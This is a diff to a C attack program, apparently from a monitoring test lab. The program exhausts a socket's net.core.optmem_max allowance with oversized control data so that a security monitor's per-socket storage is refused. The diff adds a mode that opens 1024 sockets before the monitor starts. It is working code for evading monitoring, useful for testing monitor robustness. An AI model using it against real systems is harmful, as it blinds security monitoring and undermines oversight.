@@ -3,7 +3,8 @@
  * optmem.c: sends while its socket has no memory left for anybody else. The kernel charges control
  * data to the same allowance (net.core.optmem_max) that a monitor's per-socket storage is charged
  * to, for as long as the send takes: with as much of it as is accepted, storage is refused. Each
- * datagram goes out from a socket of its own. No right is needed.
+ * datagram goes out from a socket of its own. No right is needed. With --start-wait they are made
+ * before a line is waited for: a monitor that begins after that finds none with storage.
  */
 #include <errno.h>
 #include <getopt.h>
@@ -17,9 +18,12 @@
 #define CONTROL_MAX  (4U << 20)
 #define CONTROL_STEP 64
 #define NO_LEVEL     0x7fff /* no protocol's: the kernel skips it */
+#define SOCKETS_MAX  1024
 
 struct attack {
 	struct lab_addr to;
+	int made[SOCKETS_MAX]; /* before the wait */
+	size_t made_n;
 	char *control;
 	size_t control_len;
 	char data[1400];
@@ -40,9 +44,13 @@ static ssize_t send_one(const struct attack *a, int fd, size_t n)
 	return sendmsg(fd, &m, 0);
 }
 
-static int socket_new(const struct attack *a)
+static int socket_new(struct attack *a)
 {
-	int fd = socket(a->to.ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	int fd;
+
+	if (a->made_n > 0)
+		return a->made[--a->made_n];
+	fd = socket(a->to.ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
 
 	if (fd < 0 || connect(fd, (const struct sockaddr *)&a->to.ss, a->to.len) < 0)
 		lab_die("socket");
@@ -80,16 +88,32 @@ static uint64_t control_fit(struct attack *a, uint64_t left)
 	lab_die("control data");
 }
 
+static void sockets_make(struct attack *a)
+{
+	int fd, n;
+
+	for (n = 0; n < SOCKETS_MAX; n++) {
+		fd = socket_new(a);
+		a->made[n] = fd;
+	}
+	a->made_n = SOCKETS_MAX;
+	printf("{\"pid\":%d,\"waiting\":true}\n", getpid());
+	lab_flush();
+	lab_wait_line();
+}
+
 int main(int argc, char **argv)
 {
 	static const struct option longs[] = {
 		{ "to", required_argument, NULL, 't' },
 		{ "bytes", required_argument, NULL, 'b' },
+		{ "start-wait", no_argument, NULL, 'w' },
 		{ NULL, 0, NULL, 0 },
 	};
 	static struct attack a;
 	struct lab_ports ports;
 	uint64_t bytes = 0, sent;
+	bool wait = false;
 	ssize_t n;
 	int c, fd;
 
@@ -98,8 +122,10 @@ int main(int argc, char **argv)
 			lab_addr_parse(optarg, false, &a.to, &ports);
 		else if (c == 'b')
 			bytes = lab_num("--bytes", optarg, 1, UINT32_MAX);
+		else if (c == 'w')
+			wait = true;
 		else
-			lab_usage("--to ADDRESS:PORT --bytes N");
+			lab_usage("--to ADDRESS:PORT --bytes N [--start-wait]");
 	}
 	if (a.to.len == 0 || bytes == 0 || optind < argc)
 		lab_usage("--to ADDRESS:PORT --bytes N");
@@ -107,6 +133,8 @@ int main(int argc, char **argv)
 	a.control = calloc(1, a.control_len);
 	if (a.control == NULL)
 		lab_die("memory");
+	if (wait)
+		sockets_make(&a);
 	for (sent = control_fit(&a, bytes); sent < bytes; sent += (uint64_t)n) {
 		fd = socket_new(&a);
 		n = send_one(&a, fd,
